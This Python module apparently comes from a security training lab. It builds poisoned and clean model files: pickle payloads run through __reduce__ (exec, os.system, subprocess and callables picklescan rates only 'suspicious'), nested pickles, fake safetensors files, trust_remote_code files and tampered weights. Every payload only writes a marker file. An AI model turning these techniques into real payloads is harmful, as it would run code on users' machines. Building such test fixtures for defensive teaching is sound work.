"""Model files as a public hub would serve them, poisoned or clean, built in a scratch folder.

Nothing here is real malware. Every payload does one harmless, visible thing: it
creates a *marker file* at a path fixed when the file is built, inside the scratch
folder. A marker that exists after loading proves that loading ran the file's code.

Cases are described by data (``CaseSpec``: a format, a payload name from the fixed
list in ``PAYLOADS``, a pickle protocol...), never by code, so the held-out set in
``graders/heldout/lab06.jsonl`` is a plain JSON description that this module turns
into files, the same bytes on every run.
"""

from __future__ import annotations

import codecs
import hashlib
import io
import json
import logging
import os
import pickle
import secrets
import struct
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import torch
from safetensors.torch import save_file

from doubleedge.target.secrets import derive_secret

MARKER_TEXT = "Double Edge lab 06: this file ran code when it was loaded."
# The lab's own poisoned file writes MARKER_TEXT plus a proof: a nonce drawn when the file is
# built and a code derived from the learner's key and that nonce (marker_text). The grader
# builds its own poisoned file, whose code derives from the grading secret instead, and asks
# the learner's read_marker for its text (grading/lab06.py): only reading that file gives it.
MARKER_PURPOSE = "lab06-marker"
TEMPLATE_KIND = "chat-template"  # held-out records of tampered GGUF chat templates, not model-file cases
EXPECTS = ("refuse", "load", "either")
FORMATS = ("torch-zip", "torch-legacy", "raw-pickle", "safetensors", "fake-safetensors")
LAYOUTS = ("file", "folder")
# A small "community model": the tensors of a one-layer language model.
SHAPES: dict[str, tuple[int, ...]] = {
    "embed.weight": (64, 16),
    "block.attn.weight": (48, 16),
    "block.attn.bias": (48,),
    "block.mlp.weight": (32, 16),
    "head.weight": (64, 16),
}


def _exec(marker: Path, text: str) -> tuple[Callable, tuple]:
    return exec, (f"open({str(marker)!r}, 'w').write({text!r})",)


def _eval(marker: Path, text: str) -> tuple[Callable, tuple]:
    return eval, (f"open({str(marker)!r}, 'w').write({text!r})",)


def _system(marker: Path, text: str) -> tuple[Callable, tuple]:
    return os.system, (f"echo '{text}' > '{marker}'",)


def _subprocess(marker: Path, text: str) -> tuple[Callable, tuple]:
    return subprocess.run, (["touch", str(marker)],)


# The next four only create an (empty) file, through classes and functions that a
# blocklist may not list: picklescan calls io.open, codecs.open and zipfile.ZipFile
# "suspicious", not "dangerous". An allowlist (torch's weights_only) refuses them all.
def _open(marker: Path, text: str) -> tuple[Callable, tuple]:
    return open, (str(marker), "w")


def _fileio(marker: Path, text: str) -> tuple[Callable, tuple]:
    return io.FileIO, (str(marker), "w")


def _codecs(marker: Path, text: str) -> tuple[Callable, tuple]:
    return codecs.open, (str(marker), "w")


def _zipfile(marker: Path, text: str) -> tuple[Callable, tuple]:
    return zipfile.ZipFile, (str(marker), "w")


def _filehandler(marker: Path, text: str) -> tuple[Callable, tuple]:
    return logging.FileHandler, (str(marker),)


PAYLOADS: dict[str, Callable[[Path, str], tuple[Callable, tuple]]] = {
    "exec": _exec,
    "eval": _eval,
    "system": _system,
    "subprocess": _subprocess,
    "open": _open,
    "fileio": _fileio,
    "codecs": _codecs,
    "zipfile": _zipfile,
    "filehandler": _filehandler,
}


def proof_text(nonce: str, code: str) -> str:
    """MARKER_TEXT with a proof: the nonce a file was built with, and a code derived for it."""
    return f"{MARKER_TEXT[:-1]} (proof {nonce} {code})."


def marker_text(nonce: str, learner: str | None = None) -> str:
    """What the lab's poisoned file built with ``nonce`` writes for ``learner`` (default: this
    process's learner): a text of that learner's own, which the learner reads from the file."""
    return proof_text(nonce, derive_secret(learner, purpose=f"{MARKER_PURPOSE}:{nonce}"))


class Payload:
    """Pickles as "call ``func(*args)``": what ``__reduce__`` lets any pickle do when loaded."""

    def __init__(self, func: Callable, args: tuple) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Callable, tuple]:
        return self.func, self.args


def payload_for(name: str, marker: Path, *, nested: bool = False, text: str = MARKER_TEXT) -> Payload:
    """The named harmless payload (writing ``text``, if it writes); ``nested`` hides it in a
    pickle inside the pickle."""
    if name not in PAYLOADS:
        raise ValueError(f"unknown payload {name!r}; known: {', '.join(PAYLOADS)}")
    func, args = PAYLOADS[name](marker, text)
    if nested:
        return Payload(pickle.loads, (pickle.dumps(Payload(func, args), protocol=0),))
    return Payload(func, args)


def weights(seed: int, *, dtype: str = "float32") -> dict[str, torch.Tensor]:
    """The community model's tensors, the same on every run for a seed."""
    generator = torch.Generator().manual_seed(seed)
    tensors = {name: torch.randn(shape, generator=generator) for name, shape in SHAPES.items()}
    return {name: t.to(getattr(torch, dtype)).contiguous() for name, t in tensors.items()}


def sha256_file(path: str | Path) -> str:
    digest = hashlib.sha256()
    with open(path, "rb") as handle:
        for chunk in iter(lambda: handle.read(1 << 20), b""):
            digest.update(chunk)
    return digest.hexdigest()


def fingerprint(state: object) -> dict[str, list]:
    """A JSON summary of a loaded state dict: name -> [dtype, shape, sha256 of the bytes].

    Raises TypeError if ``state`` is not a mapping of names to tensors.
    """
    if not isinstance(state, dict) or not state:
        raise TypeError("a loaded model must be a non-empty dict of tensors")
    summary = {}
    for name, tensor in state.items():
        if not isinstance(name, str) or not isinstance(tensor, torch.Tensor):
            raise TypeError("a loaded model must map names (str) to tensors")
        data = tensor.detach().cpu().contiguous().view(torch.uint8).numpy().tobytes()
        summary[name] = [str(tensor.dtype).removeprefix("torch."), list(tensor.shape), hashlib.sha256(data).hexdigest()]
    return dict(sorted(summary.items()))


# --- writers -------------------------------------------------------------------------


def _with_payload(state: dict, payload: Payload | None) -> dict:
    return state if payload is None else {**state, "_metadata_hook": payload}


def write_torch_zip(path: Path, state: dict, payload: Payload | None, protocol: int = 2) -> None:
    """``torch.save``'s format (a zip holding ``data.pkl``), what ``pytorch_model.bin`` files are."""
    torch.save(_with_payload(state, payload), path, pickle_protocol=protocol)


def write_torch_legacy(path: Path, state: dict, payload: Payload | None, protocol: int = 2) -> None:
    """The pre-1.6 ``torch.save`` format: pickles back to back, no zip."""
    torch.save(_with_payload(state, payload), path, pickle_protocol=protocol, _use_new_zipfile_serialization=False)


def write_raw_pickle(path: Path, state: dict, payload: Payload | None, protocol: int = 2) -> None:
    """A plain pickle of nested lists (``.pkl`` checkpoints of older tools)."""
    plain = {name: t.tolist() for name, t in state.items()}
    path.write_bytes(pickle.dumps(_with_payload(plain, payload), protocol=protocol))


def write_safetensors(path: Path, state: dict, payload: Payload | None = None, protocol: int = 2) -> None:
    if payload is not None:
        raise ValueError("safetensors files hold no code: a payload needs a pickle format")
    save_file(state, str(path), metadata={"format": "pt"})


def write_fake_safetensors(path: Path, state: dict, payload: Payload | None, protocol: int = 2) -> None:
    """A pickle wearing a ``.safetensors`` name, or (no payload) a header claiming 1 TB."""
    if payload is not None:
        write_torch_zip(path, state, payload, protocol)
    else:
        path.write_bytes(struct.pack("<Q", 1 << 40) + b'{"__metadata__": {}}')


WRITERS = {
    "torch-zip": write_torch_zip,
    "torch-legacy": write_torch_legacy,
    "raw-pickle": write_raw_pickle,
    "safetensors": write_safetensors,
    "fake-safetensors": write_fake_safetensors,
}
DEFAULT_NAMES = {
    "torch-zip": "pytorch_model.bin",
    "torch-legacy": "model.pt",
    "raw-pickle": "model.pkl",
    "safetensors": "model.safetensors",
    "fake-safetensors": "model.safetensors",
}

# --- cases ---------------------------------------------------------------------------


@dataclass(frozen=True)
class CaseSpec:
    """One model file or folder, described by data. See graders/heldout/lab06.jsonl."""

    id: str
    expect: str  # "refuse": must not load; "load": must load exactly; "either": refuse, or load exactly
    format: str = "safetensors"
    payload: str | None = None
    nested: bool = False
    protocol: int = 2
    layout: str = "file"  # "folder": a model folder with config.json, as a hub serves it
    name: str = ""  # file name, default by format
    seed: int = 0
    dtype: str = "float32"
    tamper: bool = False  # change one byte after publishing the hash
    remote_code: bool = False  # folder: config.json asks for trust_remote_code
    extra_pickle: str | None = None  # folder: also ship a pytorch_model.bin with this payload
    note: str = ""

    @classmethod
    def from_dict(cls, record: dict) -> CaseSpec:
        known = set(cls.__dataclass_fields__)
        unknown = set(record) - known
        if unknown:
            raise ValueError(f"case {record.get('id')!r}: unknown keys {sorted(unknown)}")
        spec = cls(**record)
        spec.validate()
        return spec

    def validate(self) -> None:
        if self.expect not in EXPECTS or self.format not in FORMATS or self.layout not in LAYOUTS:
            raise ValueError(f"case {self.id!r}: bad expect, format or layout")
        if self.payload is not None and self.payload not in PAYLOADS:
            raise ValueError(f"case {self.id!r}: unknown payload {self.payload!r}")
        if self.payload and self.format == "safetensors":
            raise ValueError(f"case {self.id!r}: safetensors cannot carry a payload")
        if (self.remote_code or self.extra_pickle) and self.layout != "folder":
            raise ValueError(f"case {self.id!r}: remote_code and extra_pickle need a folder")
        if not 0 <= self.protocol <= pickle.HIGHEST_PROTOCOL:
            raise ValueError(f"case {self.id!r}: bad pickle protocol")
        if self.expect == "load" and (self.payload or self.tamper or self.remote_code):
            raise ValueError(f"case {self.id!r}: a case that must load must be clean")


@dataclass(frozen=True)
class BuiltCase:
    spec: CaseSpec
    path: Path  # what the loader is given: a file or a model folder
    sha256: str  # the published ("pinned") hash of the weights file the loader should read
    marker: Path  # exists after loading if the file's code ran
    expected: dict[str, list] = field(default_factory=dict)  # fingerprint of the clean tensors

    @property
    def id(self) -> str:
        return self.spec.id

    @property
    def expect(self) -> str:
        return self.spec.expect


REMOTE_CODE = '''"""Custom modelling code shipped with the model (loaded only with trust_remote_code=True)."""
# A real attacker puts anything here: it runs with your rights as soon as it is imported.
open({marker!r}, "w").write({text!r})

from transformers import PretrainedConfig


class SupportMiniConfig(PretrainedConfig):
    model_type = "support-mini"
'''


def _config(remote_code: bool) -> dict:
    config = {
        "model_type": "support-mini",
        "architectures": ["SupportMiniForCausalLM"],
        "vocab_size": 64,
        "hidden_size": 16,
    }
    if remote_code:
        config["auto_map"] = {"AutoConfig": "modeling_support_mini.SupportMiniConfig"}
    return config


def build_case(spec: CaseSpec, root: str | Path, *, text: str = MARKER_TEXT) -> BuiltCase:
    """Write one case under ``root/<id>`` (its marker under ``root/markers``); same bytes every run
    for the same ``text``, what the payloads that write write."""
    root = Path(root).resolve()
    markers = root / "markers"
    markers.mkdir(parents=True, exist_ok=True)
    marker = markers / f"{spec.id}.txt"
    marker.unlink(missing_ok=True)
    base = root / spec.id
    base.mkdir(parents=True, exist_ok=True)
    state = weights(spec.seed, dtype=spec.dtype)
    payload = payload_for(spec.payload, marker, nested=spec.nested, text=text) if spec.payload else None
    target = base / (spec.name or DEFAULT_NAMES[spec.format])
    WRITERS[spec.format](target, state, payload, spec.protocol)
    published = sha256_file(target)
    if spec.tamper:
        data = bytearray(target.read_bytes())
        data[-1] ^= 0x01  # one bit of the last tensor: the file still loads, with other weights
        target.write_bytes(bytes(data))
    path = target
    if spec.layout == "folder":
        path = base
        (base / "config.json").write_text(json.dumps(_config(spec.remote_code), indent=1))
        if spec.remote_code:
            code = REMOTE_CODE.format(marker=str(marker), text=MARKER_TEXT)
            (base / "modeling_support_mini.py").write_text(code)
        if spec.extra_pickle:
            write_torch_zip(base / "pytorch_model.bin", state, payload_for(spec.extra_pickle, marker), 2)
    expected = fingerprint(state) if spec.expect != "refuse" else {}
    return BuiltCase(spec, path, published, marker, expected)


def load_specs(path: str | Path) -> list[CaseSpec]:
    """The model-file cases of a held-out set (its chat-template records are grading/lab06.py's)."""
    records = [json.loads(line) for line in Path(path).read_text().splitlines() if line.strip()]
    return [CaseSpec.from_dict(r) for r in records if r.get("kind") != TEMPLATE_KIND]


def build_cases(specs: list[CaseSpec], root: str | Path) -> list[BuiltCase]:
    return [build_case(spec, root) for spec in specs]


# --- the lab's community model -------------------------------------------------------

# What the lab's "hub" serves: one model repository in four variants.
COMMUNITY_VARIANTS: dict[str, CaseSpec] = {
    "pickle": CaseSpec("pickle", "refuse", format="torch-zip", payload="exec", layout="folder", seed=7),
    "safetensors": CaseSpec("safetensors", "load", format="safetensors", layout="folder", seed=7),
    "remote-code": CaseSpec("remote-code", "refuse", format="safetensors", layout="folder", seed=7, remote_code=True),
    "tampered": CaseSpec("tampered", "refuse", format="safetensors", layout="folder", seed=7, tamper=True),
}


@dataclass(frozen=True)
class CommunityModel:
    """The lab's model repository ``bellwether/support-mini`` in four variants, plus its published hashes."""

    root: Path
    cases: dict[str, BuiltCase]

    def folder(self, variant: str) -> Path:
        return self.cases[variant].path

    def published_sha256(self, variant: str) -> str:
        return self.cases[variant].sha256

    @property
    def marker(self) -> Path:
        return self.cases["pickle"].marker


def build_community_model(root: str | Path) -> CommunityModel:
    """The lab's hub under ``root``; its poisoned pickle writes this learner's ``marker_text``
    with a fresh nonce (so its bytes, and its published hash, change on every build)."""
    root = Path(root).resolve()
    text = marker_text(secrets.token_hex(8))
    cases = {name: build_case(spec, root, text=text) for name, spec in COMMUNITY_VARIANTS.items()}
    manifest = {name: {"folder": c.path.name, "sha256": c.sha256} for name, c in cases.items()}
    (root / "published_hashes.json").write_text(json.dumps(manifest, indent=1))
    return CommunityModel(root, cases)
